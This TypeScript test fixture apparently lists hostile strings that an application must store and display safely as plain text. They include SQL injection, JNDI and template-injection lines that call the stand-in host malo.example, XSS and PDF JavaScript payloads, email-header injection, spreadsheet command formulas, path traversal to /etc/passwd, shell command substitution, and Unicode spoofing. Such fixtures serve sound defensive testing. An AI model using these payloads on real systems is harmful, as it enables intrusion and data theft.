/** What strangers write into a free text to have it do something: each must be kept, shown and searched as a text. */
export const hostileTexts: readonly string[] = [
  // SQL, full text and patterns of LIKE
  "'; DROP TABLE ticket; --",
  "' OR '1'='1",
  "x') UNION SELECT usename, passwd FROM pg_shadow --",
  "$1 $$ $body$ \\'; SELECT pg_sleep(10) --",
  "a:* | !b <-> (c & ",
  "%_%\\%__",
  "E'\\x27' || chr(59)",
  // Lucene and JSON
  '"}},{"match_all":{}},{"a":{"b":"',
  "+title:* AND _exists_:body OR /.*.*.*x/~9 && (a [* TO *]",
  "${jndi:ldap://malo.example/a} {{7*7}} <%= 7*7 %> #{7*7}",
  // Mark-up
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)><svg/onload=alert(1)>',
  "<style>@import 'http://malo.example/?';</style><base href=//malo.example>",
  '</p></body></html><iframe src="file:///etc/passwd">',
  "[texto](javascript:alert(1)) ![](http://malo.example/x.png) <http://malo.example>",
  "&lt;script&gt; &#60;script&#62; &amp;lt;",
  // PDF: strings, streams and actions
  ") Tj ET endstream endobj 9 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> (",
  "<< /Type /Action /S /URI /URI (http://malo.example) /Launch (cmd.exe) /EmbeddedFile >>",
  "\\050\\051 \\\\) %%EOF startxref 0 trailer << /Root 1 0 R >>",
  // Headers of mails and of HTTP, shells, paths, formulas
  "Asunto\r\nBcc: malo@malo.example\r\n\r\n<b>cuerpo</b>",
  "=cmd|' /C calc'!A0 @SUM(1+1) -2+3 +1",
  "../../../../etc/passwd%00.png \\\\malo.example\\recurso $(id) `id` ; id | id",
  // Letters that mislead, that are many, or that are none
  "\u202egpj.exe\u202c \u2066a\u2069 \u200bcero\u200d ancho\ufeff",
  "Z\u0335\u0321\u0322\u0300".repeat(40),
  "😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 漢字 שלום مرحبا ﷽",
  "ａｄｍｉｎ 𝒂𝒅𝒎𝒊𝒏 аdmin",
  "ﬁ ǆ İ ı ſ ß ẞ \u0130\u0069\u0307",
  "(".repeat(200),
  "a@".repeat(100),
  "- ".repeat(100),
];
